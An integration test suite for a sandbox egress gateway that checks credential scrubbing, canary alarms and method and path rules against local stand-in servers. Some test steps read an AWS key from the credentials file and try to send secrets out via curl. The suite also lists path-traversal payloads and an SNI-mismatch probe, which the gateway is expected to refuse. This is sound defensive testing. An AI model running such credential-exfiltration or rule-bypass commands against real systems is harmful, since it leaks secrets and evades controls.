import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer as createHttpServer, type IncomingHttpHeaders, type Server as HttpServer } from 'node:http';
import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EgressView } from '../../src/cli/egress-view/fold.js';
import { UPSTREAM_CA_ENV } from '../../src/effects/upstream-ca.js';
import type { LifecycleEvent } from '../../src/events/schema.js';
import { resourceNames } from '../../src/shared/names.js';
import { identityFrom, PIN_DEFAULT_HOSTS, startHarness, type BottleHarness } from '../support/cli-harness.js';
import { execIn } from '../support/docker.js';
import { standInTls } from '../support/stand-in-tls.js';
import { freePort } from '../support/upstream.js';

/**
 * Egress inspection in real bottles, under runsc and runc (issue 20, "Tests"). One harness whose
 * worker trusts a throwaway CA upstream (CLAUDE_BOTTLE_UPSTREAM_CA), so the gateway's own TLS to
 * the HTTPS stand-ins below verifies, while the agent's TLS ends at the gateway's per-run CA:
 *
 * - `standin.test`, `rules.test` (GET/HEAD, `/org/**` but no git-receive-pack) and `pinned.test`
 *   (`inspect: false`) are one Node HTTPS server with a leaf for all three names;
 * - `plain.test` is a plain-HTTP server; `echo.test` is a credential route whose plain-HTTP
 *   upstream echoes the request's headers back, in its body and in a response header.
 *
 * Every server counts the TCP connections it accepts, so a refusal is shown to have connected
 * nowhere. Traffic goes only to these servers on this machine, reached through `host-gateway`.
 */

const RUNTIMES = ['runsc', 'runc'] as const;
const TLS_NAMES = ['standin.test', 'rules.test', 'pinned.test'];
const TOKEN_ENV = 'TEST_INSPECTION_ROUTE_TOKEN';
const CA_IN_AGENT = '/tmp/standin-ca.pem';

interface Seen {
  host: string;
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
}

/** A server of this test: what it was asked and how many connections it accepted. */
interface StandIn {
  port: number;
  seen: Seen[];
  connections: number;
}

const dir = mkdtempSync(join(tmpdir(), 'cb-inspection-real-'));
let caPem: string;
let caFile: string;
let h: BottleHarness;
let https: HttpsServer;
let plain: HttpServer;
let echo: HttpServer;
const tls: StandIn & { handshakes: number } = { port: 0, seen: [], connections: 0, handshakes: 0 };
const http: StandIn = { port: 0, seen: [], connections: 0 };
const echoed: StandIn = { port: 0, seen: [], connections: 0 };

async function listen(server: HttpServer | HttpsServer, record: StandIn): Promise<void> {
  server.on('connection', () => (record.connections += 1));
  record.port = await freePort();
  await new Promise<void>((resolve) => server.listen(record.port, '0.0.0.0', resolve));
}

function remember(record: StandIn, req: { method?: string; url?: string; headers: IncomingHttpHeaders }): void {
  const host = String(req.headers.host ?? '').replace(/:\d+$/, '');
  record.seen.push({ host, method: req.method ?? '', url: req.url ?? '', headers: req.headers });
}

beforeAll(async () => {
  const standIn = standInTls(TLS_NAMES, dir, 'inspection stand-in');
  ({ caPem, caFile } = standIn);
  https = createHttpsServer({ key: standIn.key, cert: standIn.cert }, (req, res) => {
    remember(tls, req);
    req.resume();
    req.on('end', () => res.end(`stand-in saw ${req.method} ${req.url}`));
  });
  plain = createHttpServer((req, res) => {
    remember(http, req);
    req.resume();
    req.on('end', () => res.end(`plain saw ${req.method} ${req.url}`));
  });
  echo = createHttpServer((req, res) => {
    remember(echoed, req);
    req.resume();
    // What a reflecting upstream does: the request's headers back, in a header and in the body.
    res.setHeader('x-echo-authorization', String(req.headers.authorization ?? ''));
    res.setHeader('content-type', 'application/json');
    req.on('end', () => res.end(JSON.stringify({ headers: req.headers })));
  });
  https.on('secureConnection', () => (tls.handshakes += 1));
  await listen(https, tls);
  await listen(plain, http);
  await listen(echo, echoed);
  h = await startHarness({ env: { [UPSTREAM_CA_ENV]: caFile } });
}, 120_000);

afterAll(async () => {
  await h?.cleanup();
  for (const server of [https, plain, echo]) {
    server?.closeAllConnections();
    await new Promise((resolve) => server?.close(resolve));
  }
  rmSync(dir, { recursive: true, force: true });
});

const extraHosts = () => ({
  ...Object.fromEntries([...TLS_NAMES, 'plain.test', 'echo.test'].map((n) => [n, 'host-gateway'])),
  ...PIN_DEFAULT_HOSTS,
});

function inspectingManifest(): string {
  return h.writeManifest({
    bottles: [
      {
        name: 'inspect',
        egress: {
          allow: [
            `standin.test:${tls.port}`,
            {
              host: `rules.test:${tls.port}`,
              methods: ['GET', 'HEAD'],
              paths: ['/org/**', '!/**/git-receive-pack'],
            },
            { host: `pinned.test:${tls.port}`, inspect: false },
            `plain.test:${http.port}`,
          ],
        },
        cred_proxy: {
          routes: [
            { host: 'echo.test', upstream: `http://echo.test:${echoed.port}`, token_env: TOKEN_ENV, auth: 'bearer' },
          ],
        },
        extra_hosts: extraHosts(),
      },
    ],
    agents: [{ name: 'sleeper', bottle: 'inspect', command: ['sleep', '900'] }],
  });
}

interface Bottle {
  identity: string;
  agent: Docker.Container;
}

async function startBottle(manifest: string, env: NodeJS.ProcessEnv): Promise<Bottle> {
  const started = await h.cli(['--manifest', manifest, 'start', 'sleeper', '--detach'], { env });
  expect(started.code, started.stderr).toBe(0);
  const identity = identityFrom(started);
  await h.waitForEvent(identity, 'agent.started', 180_000);
  return { identity, agent: h.docker.getContainer(resourceNames(identity).agentContainer) };
}

/** Runs SCRIPT as the agent (sh), with ENV; its combined output. */
async function inAgent(bottle: Bottle, script: string, env: Record<string, string> = {}): Promise<string> {
  const r = await execIn(bottle.agent, ['sh', '-c', script], {
    user: 'node',
    env: Object.entries(env).map(([k, v]) => `${k}=${v}`),
  });
  return r.output;
}

interface Answer {
  status: number;
  body: string;
  json: Record<string, unknown>;
}

/** The agent's curl with ARGS (a shell fragment); the status and body it got. */
async function curl(bottle: Bottle, args: string, env: Record<string, string> = {}): Promise<Answer> {
  const out = await inAgent(bottle, `curl -sS --max-time 30 -w '\\n%{http_code}' ${args}`, env);
  const at = out.lastIndexOf('\n');
  const body = out.slice(0, at);
  let json: Record<string, unknown> = {};
  try {
    json = JSON.parse(body) as Record<string, unknown>;
  } catch {
    // Not every answer is JSON; the body is kept for the assertion messages.
  }
  return { status: Number(out.slice(at + 1).trim()), body, json };
}

/** The events of IDENTITY from seq AFTER on, once one of them satisfies MATCH (waits on the log, not a clock). */
async function eventsUntil(
  identity: string,
  after: number,
  match: (events: LifecycleEvent[]) => boolean,
): Promise<LifecycleEvent[]> {
  const deadline = Date.now() + 60_000;
  for (;;) {
    const events = (await h.log.read(identity)).filter((e) => e.seq > after);
    if (match(events)) return events;
    if (Date.now() > deadline) {
      const shown = events
        .filter((e) => e.type.startsWith('egress.'))
        .map((e) => `${e.type} ${JSON.stringify(e.data)}`);
      throw new Error(`${identity}: the events awaited did not arrive; saw\n${shown.join('\n')}`);
    }
    await new Promise((r) => setTimeout(r, 200));
  }
}

async function lastSeq(identity: string): Promise<number> {
  return (await h.log.read(identity)).at(-1)?.seq ?? 0;
}

type Decision = Extract<LifecycleEvent, { type: 'egress.denied' }>['data'];
const ofType = (events: LifecycleEvent[], type: string): Decision[] =>
  events.filter((e) => e.type === type).map((e) => e.data as Decision);

it('the plan lists an inspect:false host as not inspected', async () => {
  const plan = await h.cli(['--manifest', inspectingManifest(), 'start', 'sleeper', '--dry-run']);
  expect(plan.code, plan.stderr).toBe(0);
  const pinnedLine = plan.stdout.split('\n').find((l) => l.includes(`pinned.test:${tls.port}`));
  expect(pinnedLine, plan.stdout).toMatch(/not inspected/);
  const rulesLine = plan.stdout.split('\n').find((l) => l.includes(`rules.test:${tls.port}`));
  expect(rulesLine, plan.stdout).toMatch(/methods GET,HEAD; paths \/org\/\*\* !\/\*\*\/git-receive-pack/);
  expect(plan.stdout.split('\n').find((l) => l.includes(`standin.test:${tls.port}`))).not.toMatch(/not inspected/);
});

describe.each(RUNTIMES)('inspection in a real bottle under %s', (runtime) => {
  const secret = `ghp_${randomBytes(18).toString('hex').slice(0, 36)}`;
  let bottle: Bottle;
  let canary: string;

  beforeAll(async () => {
    bottle = await startBottle(inspectingManifest(), { CLAUDE_BOTTLE_RUNTIME: runtime, [TOKEN_ENV]: secret });
    expect((await bottle.agent.inspect()).HostConfig.Runtime).toBe(runtime);
    canary = (await inAgent(bottle, "sed -n 's/^aws_access_key_id *= *//p' ~/.aws/credentials")).trim();
    expect(canary).toMatch(/^AKIA[0-9A-Z]{16}$/);
    // The stand-in's own CA, for the one host whose tunnel stays end to end.
    await inAgent(bottle, `printf '%s' "$PEM" > ${CA_IN_AGENT}`, { PEM: caPem });
  }, 240_000);

  it('a route upstream echoing the request never shows the agent the real secret; the scrub is recorded', async () => {
    const at = await lastSeq(bottle.identity);
    const before = echoed.seen.length;
    const answer = await curl(bottle, `-D - -H 'Authorization: Bearer placeholder' https://echo.test/echo`);
    expect(answer.status, answer.body).toBe(200);
    // The upstream did get the real secret (the gateway injected it)...
    expect(echoed.seen.slice(before).map((s) => s.headers.authorization)).toEqual([`Bearer ${secret}`]);
    // ...and the agent got neither it nor the placeholder's replacement back, in headers or body.
    expect(answer.body).not.toContain(secret);
    expect(answer.body).toMatch(/x-echo-authorization: Bearer \[REDACTED known_secret:[0-9a-z]+/i);
    expect(answer.body).toMatch(/"authorization":"Bearer \[REDACTED known_secret:/);

    const events = await eventsUntil(bottle.identity, at, (es) =>
      ofType(es, 'egress.audited').some((d) => d.detail?.where === 'response'),
    );
    const scrub = ofType(events, 'egress.audited').find((d) => d.detail?.where === 'response')!;
    expect(scrub).toMatchObject({ host: 'echo.test', reason: 'known_secret', detail: { class: 'known_secret' } });
    expect(scrub.detail!.fingerprint).toMatch(/^known_secret:[0-9a-f]+$/);
    expect(answer.body).toContain(scrub.detail!.fingerprint);
    expect(JSON.stringify(await h.log.read(bottle.identity))).not.toContain(secret);
  });

  it('a canary in a query string, a header and a gzip body is refused before connecting, and alarms', async () => {
    const at = await lastSeq(bottle.identity);
    const seenBefore = tls.seen.length;
    const connectionsBefore = tls.connections;
    const plainBefore = http.connections;
    const url = `https://standin.test:${tls.port}`;
    const env = { CANARY: canary };
    await inAgent(bottle, `printf 'id=%s&x=1' "$CANARY" | gzip -c > /tmp/canary.gz`, env);
    const sent = [
      await curl(bottle, `"${url}/search?q=$CANARY"`, env),
      await curl(bottle, `-H "X-Note: $CANARY" ${url}/note`, env),
      await curl(bottle, `-H 'Content-Encoding: gzip' --data-binary @/tmp/canary.gz ${url}/upload`, env),
      await curl(bottle, `"http://plain.test:${http.port}/?q=$CANARY"`, env),
    ];
    const wheres = ['url', 'header', 'body', 'url'];
    sent.forEach((answer, i) => {
      expect(answer.status, answer.body).toBe(403);
      expect(answer.json).toMatchObject({
        error: 'egress_denied',
        reason: 'canary',
        class: 'canary',
        where: wheres[i],
      });
      expect(answer.json.fingerprint).toEqual(expect.any(String));
      expect(answer.body).not.toContain(canary);
    });
    // Nothing reached the stand-ins: no request, not even a connection.
    expect(tls.seen.length).toBe(seenBefore);
    expect(tls.connections).toBe(connectionsBefore);
    expect(http.connections).toBe(plainBefore);

    const events = await eventsUntil(
      bottle.identity,
      at,
      (es) => ofType(es, 'egress.denied').filter((d) => d.reason === 'canary').length >= 4 && es.some(isAlarm),
    );
    expect(
      ofType(events, 'egress.denied')
        .filter((d) => d.reason === 'canary')
        .map((d) => `${d.host} ${d.detail?.where}`),
    ).toEqual(['standin.test url', 'standin.test header', 'standin.test body', 'plain.test url']);
    const alarm = events.find(isAlarm)!.data as { rule: string; fingerprint: string };
    expect(alarm.fingerprint).toBe(sent[0].json.fingerprint);
    // The plan holds the launch's decoys (so a resume keeps them); what egress recorded never does.
    const recorded = (await h.log.read(bottle.identity)).filter((e) => e.type.startsWith('egress.'));
    expect(JSON.stringify(recorded)).not.toContain(canary);

    const listed = await h.cli(['list', '--format', 'json']);
    const row = (JSON.parse(listed.stdout) as Array<{ identity: string; attention: { kind: string } | null }>).find(
      (b) => b.identity === bottle.identity,
    );
    expect(row?.attention).toMatchObject({ kind: 'alarm', message: expect.stringContaining('canary') });
    const table = await h.cli(['list']);
    expect(table.stdout.split('\n').find((l) => l.includes(bottle.identity))).toMatch(/alarm: canary/);
  });

  it('the route’s own secret sent by the agent to another allowlisted host is refused as known_secret', async () => {
    const at = await lastSeq(bottle.identity);
    const seenBefore = tls.seen.length;
    const url = `https://standin.test:${tls.port}`;
    const env = { SECRET: secret };
    const inHeader = await curl(bottle, `-H "X-Token: $SECRET" ${url}/h`, env);
    const inQuery = await curl(bottle, `"${url}/q?t=$(printf %s "$SECRET" | base64 -w0)"`, env);
    for (const answer of [inHeader, inQuery]) {
      expect(answer.status, answer.body).toBe(403);
      expect(answer.json).toMatchObject({ reason: 'known_secret', class: 'known_secret' });
      expect(answer.body).not.toContain(secret);
    }
    expect(inHeader.json.where).toBe('header');
    expect(inQuery.json).toMatchObject({ where: 'url', rule: expect.stringMatching(/base64/) });
    expect(tls.seen.length).toBe(seenBefore);
    await eventsUntil(
      bottle.identity,
      at,
      (es) => ofType(es, 'egress.denied').filter((d) => d.reason === 'known_secret').length === 2,
    );
  });

  it('method and path rules hold against ;. %2e%2e // and case tricks, with a 403 naming the rule', async () => {
    const at = await lastSeq(bottle.identity);
    const seenBefore = tls.seen.length;
    const base = `https://rules.test:${tls.port}`;
    const allowed = await curl(bottle, `${base}/org/repo/info/refs`);
    expect(allowed.status, allowed.body).toBe(200);
    expect(tls.seen.at(-1)).toMatchObject({ host: 'rules.test', method: 'GET', url: '/org/repo/info/refs' });

    const refusals: Array<[string, string]> = [
      ['-X POST', 'method_rule'],
      ['-X PUT', 'method_rule'],
      ['-X DELETE', 'method_rule'],
      [`${base}/other/repo`, 'path_rule'],
      [`${base}/ORG/repo`, 'path_rule'],
      [`${base}/org/repo/git-receive-pack`, 'path_rule'],
      [`${base}/org/%2e%2e/other/repo`, 'path_rule'],
      [`${base}/org/%2E%2E/%2e%2e/other`, 'path_ambiguous'],
      [`${base}/org/..;/other/repo`, 'path_ambiguous'],
      [`${base}/org/.;/repo`, 'path_ambiguous'],
      [`${base}/org;./repo`, 'path_ambiguous'],
      [`${base}//org/repo`, 'path_ambiguous'],
      [`${base}/org//repo`, 'path_ambiguous'],
      [`${base}/org%2frepo`, 'path_ambiguous'],
      // Hosts are case-insensitive: the entry's rules follow the name however it is written.
      [`https://RULES.Test:${tls.port}/other/repo`, 'path_rule'],
    ];
    const seenAfterAllowed = tls.seen.length;
    for (const [args, reason] of refusals) {
      const target = args.startsWith('-X') ? `${args} ${base}/org/repo` : `--path-as-is '${args}'`;
      const answer = await curl(bottle, target);
      expect(answer.status, `${target}: ${answer.body}`).toBe(403);
      expect(answer.json, target).toMatchObject({
        error: 'egress_denied',
        reason,
        detail: { class: reason === 'method_rule' ? 'method_rule' : 'path_rule', where: 'url' },
      });
      const rule = (answer.json.detail as { rule: string }).rule;
      expect(rule).toContain(`rules.test`);
      expect(rule).toContain(reason === 'method_rule' ? 'methods GET,HEAD' : 'paths /org/**');
    }
    expect(tls.seen.length).toBe(seenAfterAllowed);
    expect(seenAfterAllowed).toBe(seenBefore + 1);

    const events = await eventsUntil(
      bottle.identity,
      at,
      (es) => ofType(es, 'egress.denied').filter((d) => d.host === 'rules.test').length === refusals.length,
    );
    expect(ofType(events, 'egress.denied').map((d) => d.reason)).toEqual(refusals.map(([, reason]) => reason));
  });

  it('an inspect:false host works end to end with SNI checks only; a mismatched TLS name is refused', async () => {
    const at = await lastSeq(bottle.identity);
    const url = `https://pinned.test:${tls.port}/pinned`;
    // Only the stand-in's own CA is trusted here: had the gateway intercepted, this would not verify.
    const through = await curl(bottle, `--cacert ${CA_IN_AGENT} ${url}`);
    expect(through.status, through.body).toBe(200);
    expect(through.body).toBe('stand-in saw GET /pinned');
    // And the gateway's CA is no use for it: the certificate is the stand-in's, end to end.
    const gatewayCa = await inAgent(bottle, `curl -sS --max-time 30 -o /dev/null ${url}; echo "exit $?"`);
    expect(gatewayCa).toMatch(/exit 60/);

    // The tunnel's TCP connection may open (a server-first protocol needs it) but carries no byte:
    // the stand-in completes no TLS handshake and sees no request.
    const handshakesBefore = tls.handshakes;
    const seenBefore = tls.seen.length;
    const mismatch = await inAgent(
      bottle,
      `timeout 20 openssl s_client -proxy "\${HTTPS_PROXY#http://}" -connect pinned.test:${tls.port} ` +
        `-servername standin.test </dev/null >/dev/null 2>&1; echo "exit $?"`,
    );
    expect(mismatch).not.toMatch(/exit 0/);
    const events = await eventsUntil(bottle.identity, at, (es) =>
      ofType(es, 'egress.denied').some((d) => d.reason === 'tls_sni_mismatch'),
    );
    expect(tls.handshakes).toBe(handshakesBefore);
    expect(tls.seen.length).toBe(seenBefore);
    expect(ofType(events, 'egress.denied').find((d) => d.reason === 'tls_sni_mismatch')).toMatchObject({
      host: 'pinned.test',
      port: tls.port,
      method: 'CONNECT',
    });
    expect(
      ofType(events, 'egress.allowed')
        .filter((d) => d.host === 'pinned.test')
        .map((d) => d.detail?.class),
    ).toContain('not_inspected');
  });

  it('`bottle egress --format json` shows the traffic just sent', async () => {
    const at = await lastSeq(bottle.identity);
    const base = `https://standin.test:${tls.port}`;
    expect((await curl(bottle, `${base}/view-1`)).status).toBe(200);
    expect((await curl(bottle, `-X POST --data-binary hello ${base}/view-2`)).status).toBe(200);
    expect((await curl(bottle, `-H "X-Token: $SECRET" ${base}/view-3`, { SECRET: secret })).status).toBe(403);
    const events = await eventsUntil(
      bottle.identity,
      at,
      (es) => es.filter((e) => e.type === 'egress.allowed' || e.type === 'egress.denied').length >= 3,
    );
    const shown = await h.cli(['egress', bottle.identity, '--format', 'json']);
    expect(shown.code, shown.stderr).toBe(0);
    const view = JSON.parse(shown.stdout) as EgressView & { identity: string };
    expect(view.identity).toBe(bottle.identity);
    expect(view.decisions.slice(-3).map((d) => `${d.decision} ${d.method} ${d.host} ${d.reason}`)).toEqual(
      ofType(events, 'egress.allowed')
        .slice(0, 2)
        .map((d) => `allowed ${d.method} ${d.host} ${d.reason}`)
        .concat(['denied GET standin.test known_secret']),
    );
    expect(view.decisions.at(-1)?.detail, JSON.stringify(view.decisions.slice(-3))).toMatchObject({
      class: 'known_secret',
      where: 'header',
    });
    expect(view.decisions.slice(-3, -1).map((d) => d.method)).toEqual(['GET', 'POST']);
    const standin = view.hosts.find((x) => x.host === 'standin.test');
    const everything = await h.log.read(bottle.identity);
    const count = (type: string) => ofType(everything, type).filter((d) => d.host === 'standin.test').length;
    expect(standin).toMatchObject({ methods: expect.arrayContaining(['GET', 'POST']) });
    expect(standin!.allowed).toBeGreaterThanOrEqual(count('egress.allowed'));
    expect(standin!.denied).toBeGreaterThanOrEqual(count('egress.denied'));
    for (const host of ['rules.test', 'pinned.test', 'plain.test', 'echo.test'])
      expect(view.hosts.map((x) => x.host)).toContain(host);
    expect(view.hosts.find((x) => x.host === 'rules.test')?.denied).toBeGreaterThanOrEqual(15);
    expect(shown.stdout).not.toContain(secret);
    expect(shown.stdout).not.toContain(canary);
  });
});

function isAlarm(e: LifecycleEvent): boolean {
  return e.type === 'egress.alarm';
}

describe('egress.dlp audit in a real bottle', () => {
  let bottle: Bottle;

  beforeAll(async () => {
    const manifest = h.writeManifest({
      bottles: [
        {
          name: 'audit',
          egress: { allow: [`standin.test:${tls.port}`], dlp: 'audit' },
          extra_hosts: extraHosts(),
        },
      ],
      agents: [{ name: 'sleeper', bottle: 'audit', command: ['sleep', '900'] }],
    });
    bottle = await startBottle(manifest, { CLAUDE_BOTTLE_RUNTIME: 'runc' });
  }, 240_000);

  it('records a credential shape as egress.audited and lets the request pass; a canary is still refused', async () => {
    const at = await lastSeq(bottle.identity);
    const seenBefore = tls.seen.length;
    // A GitHub-token shape the gateway does not hold: a pattern, which audit lets through.
    const shape = `ghp_${randomBytes(18).toString('hex').slice(0, 36)}`;
    const passed = await curl(bottle, `-H "X-Token: $SHAPE" https://standin.test:${tls.port}/audited`, {
      SHAPE: shape,
    });
    expect(passed.status, passed.body).toBe(200);
    expect(passed.body).toBe('stand-in saw GET /audited');
    expect(tls.seen.slice(seenBefore).map((s) => s.headers['x-token'])).toEqual([shape]);
    const events = await eventsUntil(bottle.identity, at, (es) => ofType(es, 'egress.audited').length > 0);
    expect(ofType(events, 'egress.audited')[0]).toMatchObject({
      host: 'standin.test',
      reason: 'secret_pattern',
      detail: { class: 'pattern', where: 'header', fingerprint: expect.any(String) },
    });
    expect(JSON.stringify(await h.log.read(bottle.identity))).not.toContain(shape);

    const canary = (await inAgent(bottle, "sed -n 's/^aws_access_key_id *= *//p' ~/.aws/credentials")).trim();
    const refused = await curl(bottle, `"https://standin.test:${tls.port}/?k=$CANARY"`, { CANARY: canary });
    expect(refused.status, refused.body).toBe(403);
    expect(refused.json).toMatchObject({ reason: 'canary' });
    expect(tls.seen.length).toBe(seenBefore + 1);
  });
});
